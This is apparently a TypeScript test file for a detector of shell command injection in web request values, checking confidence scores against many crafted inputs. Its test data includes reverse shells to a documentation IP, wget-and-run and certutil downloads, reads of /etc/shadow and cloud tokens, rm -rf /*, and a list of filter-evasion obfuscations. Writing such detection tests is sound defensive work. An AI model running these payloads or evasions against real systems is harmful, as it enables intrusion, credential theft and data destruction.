import { describe, expect, test } from 'vitest';
import { readingOf } from '../../../src/attacks/readings/reading.ts';
import type { LeafKind } from '../../../src/attacks/request/leaf/leaf.ts';
import { findCommand } from '../../../src/attacks/shell/find-commands.ts';

function confidenceOf(text: string, kind: LeafKind = 'query'): number {
  const reading = readingOf({ location: 'query.q', kind, part: 'value', text }, text, []);
  return findCommand(reading)?.confidence ?? 0;
}

const COMMANDS = ['whoami', 'id', 'ls -la', 'cat /etc/passwd', 'ping -c 3 127.0.0.1', 'sleep 5', '/usr/bin/id'];
const HEADS = ['', '1', '127.0.0.1', 'a.txt', "'", '")', 'https://example.org', 'x@example.org'];
const TAILS = ['', ';', ' #', "'", ' --', '\n'];

describe('a command in command position', () => {
  test.each(COMMANDS)('%s behind every separator, head and tail', (command) => {
    for (const head of HEADS) {
      for (const separator of [';', '|', '||', '&', '&&', '\n', ' ; ', ' | ']) {
        for (const tail of TAILS) {
          const text = head + separator + command + tail;
          expect([text, confidenceOf(text) >= 0.7]).toEqual([text, true]);
        }
      }
    }
  });

  test.each(COMMANDS)('%s substituted behind a machine, as another operand', (command) => {
    for (const machine of ['127.0.0.1', 'localhost', '192.0.2.1:80', '[2001:db8::1]']) {
      for (const text of [`${machine} $(${command})`, `${machine} \`${command}\``, `${machine} $(${command}) #`]) {
        expect([text, confidenceOf(text) >= 0.7]).toEqual([text, true]);
      }
      expect(confidenceOf(`${machine} \`${command}\` is what to run there`)).toBeLessThan(0.5);
    }
    expect(confidenceOf(`1. \`${command}\``)).toBeLessThan(0.5);
  });

  test.each(COMMANDS)('%s in every substitution', (command) => {
    for (const text of [
      `$(${command})`,
      `a\`${command}\``,
      `"$(${command})"`,
      `x=<(${command})`,
      `$(\`${command}\`)`,
    ]) {
      expect([text, confidenceOf(text) >= 0.7]).toEqual([text, true]);
    }
  });

  test.each([
    'Ann Smith|cat notes.txt',
    "x';id;echo 'x",
    "x'| id | echo 'x",
    'x"&id&echo "x',
    '`id;`',
    'x`telnetd; `x',
    '$(reboot;)',
    '-c 5 127.0.0.1; id',
    ';who``ami',
    '* * * * * root nc -e /bin/sh 203.0.113.9 443',
    '@reboot cat /etc/shadow > /srv/x',
    'echo xy$()z || a',
    ';xyzd /flag',
    ';xyzd index.php',
    'a.txt|xyzd 203.0.113.9',
    ';xyzd /etc/shadow',
    '|xyz.sh',
    "'.passthru($HTTP_GET_VARS[x]).'",
    '(~\u008c\u0086\u008c)(~\u0093\u008c);',
    '; !id',
    'a.txt; aws s3 ls',
    'a.txt;gcloud auth print-access-token',
    'a.txt|vault kv list secret',
    'a.txt; uvx ./x',
    "'; !id #",
    'a.txt|!id',
    '\n:!id',
    'x;!bash',
    '\n\\! id',
    'red shoes;ping -c 9 203.0.113.9',
    'red shoes && curl http://203.0.113.9/x',
    '127.0.0.1; docker ps',
    'a.txt|git clone http://203.0.113.9/x',
    'a.txt;timeout 5 id',
    'a.txt&if 1==1 dir',
    'a.txt;dir;c:\\',
    'a;[System.Net.Dns]::GetHostName()',
    "=cmd|' /c calc'!A1",
    'x;sudo id',
    'red shoes&date #',
    'localhost;id',
    '203.0.113.9 -c 5;id',
    'a.txt&ver&rem x',
    'a.txt&net;user',
    'a.txt;case x in x) id;; esac',
    'a.txt;expr 40 + 2;x',
    'a.txt;eval $(echo aWQ=|base64 -d)',
    'a.txt;`echo aWQ=|base64 -d`',
    'a.txt;$SHELL',
    'a.txt;</etc/hosts cat',
    'a.txt;which curl',
    "a.txt;&('who'+'ami')",
    'a.txt;a=cat;b=/etc/hosts;$a $b',
    '/etc/init.d/ssh stop;id',
    'shoes\nid',
    '$0<<<id',
    'dir d:\\',
    'echo `id`',
  ])('behind a name of two words, or run by another: %s', (text) => {
    expect(confidenceOf(text)).toBeGreaterThanOrEqual(0.5);
  });

  test.each([
    'red shoes; black socks',
    'npm test && curl http://localhost:8080/',
    'cd app && git pull',
    'tsc && git push',
    'new features; go home',
    'make sure; service provided',
    'cash on delivery; call me',
    '1. list; 2. print',
    'milk\ndate',
    'shoes\nid please',
  ])('words, and steps of a build: %s', (text) => {
    expect(confidenceOf(text)).toBeLessThan(0.5);
  });

  test.each([
    ['quotes', "c'a't /etc/passwd"],
    ['empty quotes', 'w""hoami'],
    ['backslashes', 'w\\ho\\am\\i'],
    ['empty parameters', 'who$@ami'],
    ['an empty substitution', 'who$()ami'],
    ['an unset variable', 'cat$u /etc$u/passwd'],
    ['carets', 'w^h^o^a^m^i'],
    ['wildcards', '/b?n/c?t /etc/passwd'],
    ['a set in brackets', '/b[i]n/cat x'],
    ['braces', '{cat,/etc/passwd}'],
    ['braces with a suffix', '{l,-lh}s'],
    ['the field separator', 'cat$IFS$9/etc/passwd'],
    ['a redirection', 'cat</etc/passwd'],
    ['escapes', "$'\\x69\\x64' -u"],
    ['a slice of a path', `cat \${HOME:0:1}etc\${HOME:0:1}passwd`],
    ['a default of a variable', `\${x:-id} -u`],
    ['a here-string', 'rev<<<imaohw'],
    ['plus signs', 'cat+/etc/passwd'],
  ])('hidden by %s', (_, command) => {
    expect(confidenceOf(`;${command}`)).toBeGreaterThanOrEqual(0.85);
  });

  test.each([
    'cat /etc/passwd',
    'uname -a',
    'ping -c 1 127.0.0.1',
    'wget http://203.0.113.9/x.sh -O- | sh',
    'nc -e /bin/sh 203.0.113.9 4444',
    'python3 -c "import os"',
    'cmd.exe /c whoami',
    'powershell -nop -w hidden -enc SQBFAFgA',
    'wmic process list',
    'reg query HKLM\\Software',
    'certutil -urlcache -f http://203.0.113.9/a.exe',
    'Get-Process',
    '/bin/ls -al',
    'rm -rf /*',
  ])('%s as the whole value', (command) => {
    expect(confidenceOf(command)).toBeGreaterThanOrEqual(0.5);
  });

  test('a path of the request is no command line, though a separator in it begins one', () => {
    expect(confidenceOf('/bin/ls', 'path')).toBe(0);
    expect(confidenceOf('/index.html;ls -la', 'path')).toBeGreaterThan(0.7);
  });

  test('a complete attack that breaks out at once is found before any text', () => {
    const prose = 'this is a long and quite harmless text about the weather in spring. '.repeat(5);
    expect(confidenceOf(`; cat /etc/passwd\n${prose}`)).toBeGreaterThan(0.9);
  });
});

describe('harmless text', () => {
  test.each([
    ['words between pipes', 'Home | Date | Time'],
    ['a table', '| id | name |\n|----|------|\n| 1 | Ann |'],
    ['columns', '"id";"name";"date"'],
    ['a list of languages', 'java;python;perl'],
    ['a search', 'ls -la explained'],
    ['a regular expression', '^(ls|cat|id)$'],
    ['jQuery', "$('time').text() && $(id).hide()"],
    ['a query of GraphQL', 'query { user(id: 1) { id name } }'],
    ['columns in backticks', '`id`, `name`'],
    ['SQL', '1; DROP TABLE users'],
    ['a script call', ';alert(1)//'],
    ['a template', `{{ 7 * 7 }} \${7*7}`],
    ['a build script', 'tsc && cp -r assets dist/assets'],
    ['a sentence about functions', 'Replace os.system("ls") with subprocess'],
    ['a match of a pattern', '/x/.exec("date")'],
    ['a traversal', '../../etc/passwd'],
    ['a program in a configuration', '/bin/sh'],
    ['a folder', 'C:\\new\\id'],
    ['a question', 'whois example.org'],
    ['Markdown', 'Install it:\n\n```sh\ncurl -sSf https://example.org/i.sh | sh\n```\n'],
    ['a script', '#!/bin/sh\nset -e\ncd /srv\nrm -rf /tmp/x\nfor f in $(ls /etc); do echo "$f"; done\n'],
    ['HTML', '<p>Fish &amp; chips; <b>sort</b> of</p><p>cut; <i>find</i></p>'],
    ['a name with an apostrophe', "l'id de l'env; c'est ça"],
  ])('%s', (_, text) => {
    expect(confidenceOf(text)).toBe(0);
  });
});

test.each(['\ud800;\udfff', ';', '$(', '`', ';\\', ';"', '\0|\0', `\${`.repeat(500), ';{'.repeat(500), '\\n'])(
  'survives %j',
  (text) => {
    expect(confidenceOf(text)).toBe(0);
  },
);

test('behind a word a line end counts that an encoding hid, and one that somebody typed does not', () => {
  const leaf = { location: 'body.name', kind: 'form', part: 'value' } as const;
  const confidence = (text: string, decodings: readonly string[]): number =>
    findCommand(readingOf({ ...leaf, text }, 'shoes\nid', decodings))?.confidence ?? 0;
  expect(confidence('shoes%0aid', ['percent'])).toBeGreaterThanOrEqual(0.5);
  expect(confidence('shoes\nid', [])).toBe(0);
});

test.each(['eth0;touch a;', '"; touch a #', "x'; sort b; '", "a'); find c #"])(
  'a command behind a string that it closes: %j',
  (value) => {
    expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.5);
  },
);

test.each(['& touch a #', 'x; touch a #', '"&& touch a; #', 'x&&touch a', 'x||touch a'])(
  'a command that a comment ends, or that stands right behind an operator: %j',
  (value) => {
    expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.5);
  },
);

test.each(['$(touch a)', 'x$(touch a).png'])('a substitution that is the value, or stands in a word: %j', (value) => {
  expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.5);
});

test.each(['$(this)', '$(Build.Id)', 'see $(touch a)', '$(sort a) and b', '$("find me")', '$(Find me)'])(
  'brackets behind a dollar that run nothing, or stand among words: %j',
  (value) => {
    expect(confidenceOf(value)).toBeLessThan(0.5);
  },
);

test.each(['a\n\ntouch a', 'a\ntouch a #', 'R&touch a', 'look & touch a #', 'x && touch a'])(
  'words behind a line end, a sign or a blank: %j',
  (value) => {
    expect(confidenceOf(value)).toBeLessThan(0.5);
  },
);

test.each(['"a"; find b', 'say "a"; find "b"', '"; find a and b or c or d #'])('words behind quotes: %j', (value) => {
  expect(confidenceOf(value)).toBeLessThan(0.5);
});
